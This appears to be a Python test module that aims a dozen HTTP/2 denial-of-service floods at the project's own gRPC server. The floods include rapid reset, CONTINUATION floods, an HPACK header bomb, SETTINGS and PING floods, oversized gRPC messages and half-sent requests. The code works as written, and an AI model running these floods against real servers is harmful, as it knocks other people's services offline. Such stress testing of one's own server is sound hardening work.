"""Attacks on the door's HTTP/2, each a function `strike(address, over)` that goes on until `over` is set or its connection
is closed, which raises OSError. They come from an address of their own, h2.Connection's."""

import struct

import h2
from door import open_call


def opened(stream):
    """A stream that asks for a call."""
    return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.request())


def reset(stream):
    return h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))


def flood(address, over, data, before=b""):
    """`data` again and again, after `before`."""
    with h2.Connection(address) as connection:
        connection.send(before)
        while not over.is_set():
            connection.send(data)


def on_every_stream(address, over, last, streams_a_write, bytes_of):
    """What `bytes_of` gives for a stream, for 1, 3, 5 and on to `last`, some streams at once."""
    with h2.Connection(address) as connection:
        for first in range(1, last, 2 * streams_a_write):
            if over.is_set():
                return
            connection.send(b"".join(bytes_of(stream) for stream in range(first, first + 2 * streams_a_write, 2)))


def rapid_reset(address, over):
    on_every_stream(address, over, 1 << 20, 1_000, lambda stream: opened(stream) + reset(stream))


def resets_after_a_call_is_open(address, over):
    """As slow as the door lets it: each stream opens a call first."""
    with h2.Connection(address) as connection:
        for stream in range(1, 40, 2):
            connection.send(opened(stream) + h2.frame(h2.DATA, 0, stream, h2.client_message(1, h2.OPEN)) + reset(stream))
            over.wait(.05)  # a flood of connections is for a firewall


def continuation_flood(address, over):
    flood(address, over, h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-filler", "f" * 16_000)),
          before=h2.frame(h2.HEADERS, 0, 1, h2.request()))


def one_header_that_never_ends(address, over):
    """The string of one field goes on through CONTINUATION frames: a decoder that waits for it holds all."""
    start = b"\x00" + h2.integer(1, 7) + b"x" + h2.integer(1 << 30, 7)
    flood(address, over, h2.frame(h2.CONTINUATION, 0, 1, b"f" * 16_000), before=h2.frame(h2.HEADERS, 0, 1, start))


def empty_continuations(address, over):
    flood(address, over, h2.frame(h2.CONTINUATION, 0, 1) * 1_000, before=h2.frame(h2.HEADERS, 0, 1, h2.request()))


def empty_data(address, over):
    flood(address, over, h2.frame(h2.DATA, 0, 1) * 1_000, before=opened(1))


def settings_flood(address, over):
    """Whose answers nobody reads."""
    flood(address, over, h2.frame(h2.SETTINGS, 0, 0) * 1_000)


def ping_flood(address, over):
    """Whose answers nobody reads."""
    flood(address, over, h2.frame(h2.PING, 0, 0, b"flooding") * 1_000)


def header_bomb(address, over):
    """A field of 4,000 bytes in the decoder's table, then a byte each time it is meant again."""
    block = h2.request() + h2.literal("x-bomb", "b" * 4_000, indexed=True) + b"\xbe" * 12_000
    on_every_stream(address, over, 1 << 16, 1, lambda stream: h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block))


def many_headers(address, over):
    block = h2.request() + b"".join(h2.literal(f"x-{i}", "") for i in range(1_500))
    on_every_stream(address, over, 1 << 16, 1, lambda stream: h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block))


def huge_messages(address, over):
    """Of 2 GiB as gRPC's framing has it, on every stream that a connection may have. gRPC 1.51 looks at the length when it
    has all of it."""
    part = b"m" * 16_000
    with h2.Connection(address) as connection:
        for stream in range(1, 64, 2):
            connection.send(opened(stream) + h2.frame(h2.DATA, 0, stream, b"\0\x7f\xff\xff\xff"))
        connection.socket.settimeout(1)
        while not over.is_set():
            for stream in range(1, 64, 2):
                connection.send(h2.frame(h2.DATA, 0, stream, part))


def a_huge_message_of_a_call_that_is_open(address, over):
    """As flow control lets it: each call sends what it may, for as long as it may."""
    part = b"m" * 16_000
    with open_call(address) as call:
        call.send(h2.frame(h2.DATA, 0, 1, b"\0\x7f\xff\xff\xff"))
        window = 250 << 10
        while not over.is_set():
            while window >= len(part):
                call.send(h2.frame(h2.DATA, 0, 1, part))
                window -= len(part)
            got = call.read_until(h2.WINDOW_UPDATE, h2.RST_STREAM, h2.HEADERS, h2.GOAWAY)
            if got is None or got[0] != h2.WINDOW_UPDATE:
                raise ConnectionError("ended")
            if got[2] == 1:
                window += struct.unpack(">I", got[3])[0]


def half_a_request(address, nth):
    """A connection with half a frame, half a header block, or a stream without a message: whoever waits for the rest
    holds it."""
    connection = h2.Connection(address)
    connection.send([opened(1)[:20], h2.frame(h2.HEADERS, 0, 1, h2.request()), opened(1)][nth % 3])
    return connection


FLOODS = [rapid_reset, resets_after_a_call_is_open, continuation_flood, one_header_that_never_ends, empty_continuations,
          empty_data, settings_flood, ping_flood, header_bomb, many_headers, huge_messages,
          a_huge_message_of_a_call_that_is_open]
